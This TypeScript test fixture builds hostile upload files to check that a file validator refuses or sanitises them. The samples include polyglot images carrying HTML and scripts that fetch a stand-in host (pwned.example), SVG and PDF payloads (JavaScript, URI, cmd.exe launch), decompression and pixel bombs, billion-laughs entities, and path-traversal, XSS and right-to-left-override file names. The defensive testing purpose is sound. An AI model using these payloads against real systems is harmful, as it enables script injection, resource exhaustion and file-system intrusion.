/** Files that are not what they pretend to be, or are made to hurt whoever opens them, by hand. */
import { crc32, deflateSync, gzipSync } from 'node:zlib';

/** `refused`: with these words of `files.errors`. `picture`: drawn anew. `opaque`: kept as bytes, shown as nothing. */
type Fate = 'picture' | 'opaque' | { readonly refused: string };

export interface Hostile {
	readonly what: string;
	readonly name: string;
	readonly type: string;
	readonly bytes: Buffer;
	readonly fate: Fate;
}

/** True pictures, drawn by the browser, that the hostile ones are made of. */
export interface Honest {
	readonly jpeg: Buffer;
	readonly png: Buffer;
	readonly webp: Buffer;
}

/** Where everything would be fetched from, and what a script would leave. */
const AWAY = 'https://pwned.example/x';
const SCRIPT = `window.__pwned=1;fetch('${AWAY}');alert(1)`;
const HTML = `<!doctype html><html><body onload="${SCRIPT}"><script>${SCRIPT}</script><img src="${AWAY}" onerror="${SCRIPT}"><iframe srcdoc="<script>${SCRIPT}</script>"></iframe></body></html>`;
const NOT_A_PICTURE: Fate = { refused: 'not-a-picture' };
const MB = 1024 * 1024;

const svg = (inside: string) =>
	`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${SCRIPT}">${inside}</svg>`;

export function hostileFiles({ jpeg, png, webp }: Honest): readonly Hostile[] {
	const is = (fate: Fate) => (what: string, name: string, type: string, bytes: Buffer | string) => ({
		what,
		name,
		type,
		bytes: Buffer.from(bytes as string),
		fate
	});
	const [picture, opaque, none] = [is('picture'), is('opaque'), is(NOT_A_PICTURE)];
	const dots = is({ refused: 'too-many-dots' });
	return [
		is({ refused: 'too-large' })('too large', 'film.mp4', 'video/mp4', Buffer.alloc(20 * MB + 1)),
		is({ refused: 'too-large' })(
			'a picture, padded',
			'a.jpg',
			'image/jpeg',
			Buffer.concat([jpeg, Buffer.alloc(20 * MB)])
		),
		is({ refused: 'empty' })('nothing', 'vide.pdf', 'application/pdf', ''),
		none('three bytes of a JPEG', 'tronque.jpg', 'image/jpeg', jpeg.subarray(0, 3)),
		none('the head of a JPEG', 'tete.jpg', 'image/jpeg', jpeg.subarray(0, 40)),
		none('the head of a PNG', 'tete.png', 'image/png', png.subarray(0, 33)),
		none('the head of a WebP', 'tete.webp', 'image/webp', webp.subarray(0, 24)),
		opaque(
			'half of a PDF',
			'demi.pdf',
			'application/pdf',
			'%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript'
		),
		picture('GIF and archive in one', 'gifar.gif', 'image/gif', Buffer.concat([gif(), zip('pwned.class', HTML)])),
		picture('GIF and script in one', 'script.gif', 'image/gif', gif(`*/=1;${SCRIPT};/*`)),
		picture('JPEG and page in one', 'page.jpg', 'image/jpeg', Buffer.concat([jpeg, Buffer.from(HTML)])),
		picture(
			'JPEG and script in one',
			'script.jpg',
			'application/javascript',
			segment(jpeg, 0xfe, Buffer.from(`*/${SCRIPT}/*`))
		),
		picture('PNG and page in one', 'page.png', 'text/html', chunked(png, 'tEXt', Buffer.from(`Comment\0${HTML}`))),
		opaque('PDF and page in one', 'page.pdf', 'text/html', `%PDF-1.4\n${HTML}\n%%EOF`),
		opaque('page and PDF in one', 'page.html', 'text/html', `${HTML}\n%PDF-1.4\n%%EOF`),
		opaque('PDF that runs', 'action.pdf', 'application/pdf', pdf(`/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>`)),
		opaque('PDF that fetches', 'uri.pdf', 'application/pdf', pdf(`/OpenAction << /S /URI /URI (${AWAY}) >>`)),
		opaque(
			'PDF that starts a program',
			'lance.pdf',
			'application/pdf',
			pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')
		),
		none('SVG with a script', 'a.svg', 'image/svg+xml', svg(`<script>${SCRIPT}</script>`)),
		none(
			'SVG with a page in it',
			'b.svg',
			'image/svg+xml',
			svg(`<foreignObject width="9" height="9">${HTML}</foreignObject>`)
		),
		none('SVG that fetches', 'c.svg', 'image/svg+xml', svg(`<image xlink:href="${AWAY}"/><use href="${AWAY}#a"/>`)),
		none('SVG called a JPEG', 'd.jpg', 'image/jpeg', svg(`<script>${SCRIPT}</script>`)),
		none('SVG, compressed', 'e.svgz', 'image/svg+xml', gzipSync(svg(`<script>${SCRIPT}</script>`))),
		opaque('SVG called a text', 'f.txt', 'text/plain', svg(`<script>${SCRIPT}</script>`)),
		opaque('SVG without a type', 'g', '', svg('<script href="https://pwned.example/x"/>')),
		none(
			'SVG of entities',
			'h.svg',
			'image/svg+xml',
			`<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${entities()}]>${svg('<text>&j;</text>')}`
		),
		dots(
			'50,000 × 50,000 dots in a small PNG',
			'bombe.png',
			'image/png',
			pngOf(50_000, 50_000, Buffer.alloc(6251 * 50_000))
		),
		dots('a PNG that says 4 thousand million dots', 'grand.png', 'image/png', pngOf(65_535, 65_535, Buffer.alloc(9))),
		dots(
			'a JPEG that says as many',
			'grand.jpg',
			'image/jpeg',
			Buffer.from('ffd8ffc0000b08ffffffff01011100ffd9', 'hex')
		),
		dots('a GIF that says as many', 'grand.gif', 'image/gif', gif('', 65_535)),
		picture('a small PNG with far more data than dots', 'trop.png', 'image/png', pngOf(8, 8, Buffer.alloc(200 * MB))),
		opaque('an archive of zeros', 'bombe.zip', 'application/zip', zip('zeros', Buffer.alloc(64 * MB))),
		opaque('zeros, compressed', 'bombe.gz', 'application/gzip', gzipSync(Buffer.alloc(256 * MB))),
		none('a page called a JPEG', 'photo.jpg', 'image/jpeg', HTML),
		opaque('a page', 'lettre.html', 'text/html', HTML),
		opaque(
			'a page of another kind',
			'lettre.xhtml',
			'application/xhtml+xml',
			`<html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT}</script></html>`
		),
		opaque(
			'a program',
			'facture.pdf.exe',
			'application/pdf',
			Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(500, 0xcc)])
		),
		opaque('a script', 'a.js', 'text/javascript', SCRIPT),
		opaque('a name that is a path', '../../../etc/passwd', 'text/plain', 'x'),
		picture('a name that turns round', 'photo_\u202egpj.exe', 'image/jpeg', jpeg),
		opaque('a name of control signs', 'a\x01\x1b[31m\x07\u2028b\u0000.txt', 'text/plain', 'x'),
		opaque('a name that is a page', `<img src=x onerror="${SCRIPT}">.txt`, 'text/plain', 'x'),
		picture('a very long name', `${'é'.repeat(2000)}.jpg`, 'image/jpeg', jpeg),
		picture('a name of emoji', '👩‍👧🏳️‍🌈'.repeat(40), 'image/jpeg', jpeg),
		opaque('a name of nothing', '\u200b\u202e\u2066', 'text/plain', 'x'),
		picture(
			'EXIF with a script',
			'exif.jpg',
			'image/jpeg',
			segment(jpeg, 0xe1, Buffer.from(`Exif\0\0II*\0\x08\0\0\0${HTML}`, 'latin1'))
		),
		picture(
			'XMP that fetches',
			'xmp.jpg',
			'image/jpeg',
			segment(jpeg, 0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><a href="${AWAY}"/></x:xmpmeta>`))
		),
		picture(
			'EXIF that goes round in circles',
			'boucle.jpg',
			'image/jpeg',
			segment(jpeg, 0xe1, Buffer.from('Exif\0\0II*\0\x08\0\0\0\0\0\x08\0\0\0', 'latin1'))
		),
		picture('animated', 'anime.gif', 'image/gif', gif('', 1, 3)),
		picture(
			'a colour profile of garbage',
			'icc.jpg',
			'image/jpeg',
			segment(jpeg, 0xe2, Buffer.from(`ICC_PROFILE\0\x01\x01${'\xff\x00\x7f'.repeat(900)}`, 'latin1'))
		),
		picture(
			'a colour profile that says it is huge',
			'icc.png',
			'image/png',
			chunked(png, 'iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(32 * MB))]))
		),
		none(
			'a JPEG whose segments lead back',
			'retour.jpg',
			'image/jpeg',
			Buffer.from('ffd8ffe00000ffe00000ffe00000'.repeat(50), 'hex')
		),
		none(
			'a HEIC of garbage',
			'a.heic',
			'image/heic',
			Buffer.concat([Buffer.from('\0\0\0\x18ftypheic'), Buffer.alloc(900, 0xff)])
		),
		none('a TIFF that goes round in circles', 'a.tif', 'image/tiff', Buffer.from('49492a0008000000000008000000', 'hex'))
	];
}

function gif(comment = '', side = 1, frames = 1): Buffer {
	const screen = Buffer.alloc(7);
	screen.writeUInt16LE(side, 0);
	screen.writeUInt16LE(side, 2);
	screen[4] = 0x80;
	const text = Buffer.from(comment).subarray(0, 255);
	const frame = Buffer.from('21f904000a0000002c0000000001000100000202440100', 'hex');
	return Buffer.concat([
		Buffer.from('GIF89a'),
		screen,
		Buffer.from('ffffff000000', 'hex'),
		...(comment ? [Buffer.from([0x21, 0xfe, text.length]), text, Buffer.from([0])] : []),
		...Array.from({ length: frames }, () => frame),
		Buffer.from([0x3b])
	]);
}

/** After the first two bytes of a JPEG. */
function segment(jpeg: Buffer, kind: number, body: Buffer): Buffer {
	const head = Buffer.from([0xff, kind, 0, 0]);
	head.writeUInt16BE(body.length + 2, 2);
	return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

/** After the header of a PNG. */
function chunked(png: Buffer, kind: string, body: Buffer): Buffer {
	return Buffer.concat([png.subarray(0, 33), chunk(kind, body), png.subarray(33)]);
}

function chunk(kind: string, body: Buffer): Buffer {
	const named = Buffer.concat([Buffer.from(kind), body]);
	const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
	length.writeUInt32BE(body.length);
	sum.writeUInt32BE(crc32(named));
	return Buffer.concat([length, named, sum]);
}

/** One bit a dot, in grey. */
function pngOf(width: number, height: number, raw: Buffer): Buffer {
	const header = Buffer.alloc(13);
	header.writeUInt32BE(width, 0);
	header.writeUInt32BE(height, 4);
	header[8] = 1;
	return Buffer.concat([
		Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
		chunk('IHDR', header),
		chunk('IDAT', deflateSync(raw)),
		chunk('IEND', Buffer.alloc(0))
	]);
}

function zip(name: string, content: Buffer | string): Buffer {
	const packed = deflateSync(content).subarray(2, -4);
	const entry = Buffer.alloc(26);
	entry.writeUInt16LE(20, 0);
	entry.writeUInt16LE(8, 4);
	entry.writeUInt32LE(crc32(content), 10);
	entry.writeUInt32LE(packed.length, 14);
	entry.writeUInt32LE(Buffer.byteLength(content), 18);
	entry.writeUInt16LE(name.length, 22);
	return Buffer.concat([Buffer.from('PK\x03\x04'), entry, Buffer.from(name), packed]);
}

function pdf(more: string): string {
	return `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${more} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n`;
}

/** Each ten of the one before. */
function entities(): string {
	return Array.from('bcdefghij', (name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('');
}
